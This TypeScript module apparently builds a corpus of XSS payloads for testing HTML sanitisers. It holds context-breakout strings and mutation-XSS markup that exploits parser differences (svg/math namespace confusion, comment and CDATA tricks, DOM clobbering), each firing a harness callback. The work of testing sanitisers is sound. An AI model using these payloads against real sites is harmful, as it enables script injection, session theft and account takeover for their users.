/** XSS payloads by technique: breaking out of a context, or confusing the sanitiser's parser. */
import { run } from './spelling.ts';

/** Close the surrounding context, then start markup. */
export function breakouts(): string[] {
  const image = `<img src=x onerror=${run}>`;
  // Ten of them, from the title on, also start a script.
  const texts = ['</title>', '</textarea>', '</style>', '</script>', '</ScRiPt\n>', '</noscript>'];
  const elements = ['</template>', '</iframe>', '</option></select>', '</h1></main></body></html>'];
  const ends = [
    ...['"', "'", '">', "'>", '`>', '" x="'],
    ...[...texts, ...elements, '-->', '--!>', ']]>', '*/', '"}]}</script>', '\\"}</script>'],
    ...['\u2028</script>', '<!--<script>', '</astro-island>', '</astro-slot>'],
  ];
  const code = [
    '"-top.hit(#)-"',
    "'-top.hit(#)-'",
    '\\"-top.hit(#)//',
    '`$' + '{top.hit(#)}`',
    '$' + '{top.hit(#)}',
  ];
  const templates = ['{{constructor.constructor("top.hit(#)")()}}', '{top.hit(#)}', '<%= top.hit(#) %>'];
  const attributes = ['" autofocus onfocus=top.hit(#) x="', "' autofocus onfocus=top.hit(#) x='"];
  return [
    ...ends.map((end) => end + image),
    ...[...texts, ...elements].map((end) => `${end}<script>${run}</script>`),
    ...[...code, ...templates, ...attributes],
  ];
}

/** Mutation XSS: markup that sanitiser and browser parse differently. */
export function parserTricks(): string[] {
  const image = `<img src=x onerror=${run}>`;
  const quoted = image.replaceAll('<', '&lt;');
  const outer = 'noscript title textarea style xmp noembed noframes iframe plaintext'.split(' ');
  const foreign = ['math', 'svg'];
  return [
    ...outer.map((tag) => `<${tag}><p title="</${tag}>${image}">`),
    ...outer.map((tag) => `<${tag}><a href="</${tag}>${image}">x</a></${tag}>`),
    ...foreign.flatMap((tag) =>
      outer.slice(0, 5).map((inner) => `<${tag}><${inner}>${image}</${inner}></${tag}>`),
    ),
    ...foreign.map((tag) => `<${tag}><p><style><!--</style>${image}--></style></${tag}>`),
    `<math><mtext><table><mglyph><style><!--</style>${image}-->`,
    `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><a id="</style>${image}">`,
    `<svg><desc><noscript>${image}</noscript></desc></svg>`,
    `<svg><title><style><p title="</style></title>${image}">`,
    `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
    `<table><td>${image}<table><script>${run}</script></table>`,
    `<select><template><option>${image}</option></template><script>${run}</script></select>`,
    `<select><iframe><script>${run}</script></iframe></select>`,
    `<!--><script>${run}</script>-->`,
    `<!---><script>${run}</script>-->`,
    `<!-- --!><script>${run}</script>-->`,
    `<![CDATA[<!--]]>${image}<![CDATA[-->]]>`,
    `<a title="--><script>${run}</script>">x</a>`,
    `<a href="x" title="${quoted}">x</a>`,
    `<p>${'<b>'.repeat(600)}${image}`,
    `${'<div>'.repeat(600)}<script>${run}</script>`,
    `<p id=hit>x</p><a id=hit name=defaultView href=x:x>x</a>${image}`,
    `<form id=x name=body><input name=childNodes><input name=attributes>${image}</form>`,
    `<form><input name=attributes onfocus=${run} autofocus></form>`,
    `<b id="__proto__"><i name=constructor>${image}</i></b>`,
    `<ul><li><ul><li>${image}</ul></li></ul>${image}`,
    `<br ${'a=b '.repeat(2000)}onclick=${run}>${image}`,
  ];
}
